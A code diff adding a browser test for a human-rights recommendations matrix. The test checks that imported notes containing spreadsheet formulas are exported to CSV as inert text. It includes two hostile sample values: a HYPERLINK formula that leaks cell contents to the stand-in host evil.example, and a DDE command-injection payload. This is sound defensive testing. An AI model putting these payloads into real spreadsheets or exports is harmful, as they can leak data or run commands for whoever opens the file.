@@ -186,6 +186,28 @@ try {
     await context.close();
   }
 
+  await step("a partner's note a spreadsheet would run as a formula is written as text in both CSVs", async () => {
+    const context = await browser.newContext({ acceptDownloads: true });
+    const page = await open(context, "file://" + join(site, matrix) + "#theme=womens-rights");
+    await page.waitForFunction(() => document.querySelector("[data-rec-count]").textContent.startsWith("9 of"));
+    const [first, second] = await visibleRows(page).evaluateAll((rows) => rows.slice(0, 2).map((row) => row.getAttribute("data-id")));
+    const link = '=HYPERLINK("http://evil.example/?leak="&A1,"Read the report")';
+    const command = "+cmd|' /C calc'!A0";
+    const theirs = join(scratch, "formulas.json");
+    writeFileSync(theirs, JSON.stringify({ uprkit: "assessments", assessments: { [first]: { s: "", n: link, d: "2026-12-01" }, [second]: { s: "unknown", n: command, d: "2026-12-01" } } }));
+    await page.locator("[data-rec-import]").setInputFiles(theirs);
+    await page.waitForFunction(() => document.querySelector("[data-rec-status]").textContent.startsWith("2 assessments"));
+    assert.equal(await page.locator(`tr[data-id="${first}"] [data-rec-own-text]`).textContent(), link, "the page shows it as written");
+    const view = parseCsv(await download(page, "[data-rec-csv]"));
+    const note = view[0].indexOf("your_note");
+    assert.equal(view.find((row) => row[0] === first)[note], "'" + link);
+    assert.equal(view.find((row) => row[0] === second)[note], "'" + command);
+    assert.ok(view.every((row) => !/^[=+\-@\t\r]/.test(row.join(""))), "no cell starts a formula");
+    const ohchr = parseCsv(await download(page, "[data-rec-ohchr]"));
+    assert.ok(ohchr.some((row) => row[3] === "'" + link), "the assessment without a status is the note alone, disarmed");
+    await context.close();
+  });
+
   await step("Arabic: right to left, filtered, with the reader's assessments in Arabic", async () => {
     const context = await browser.newContext();
     const page = await open(context, "file://" + join(site, "ar", matrix));
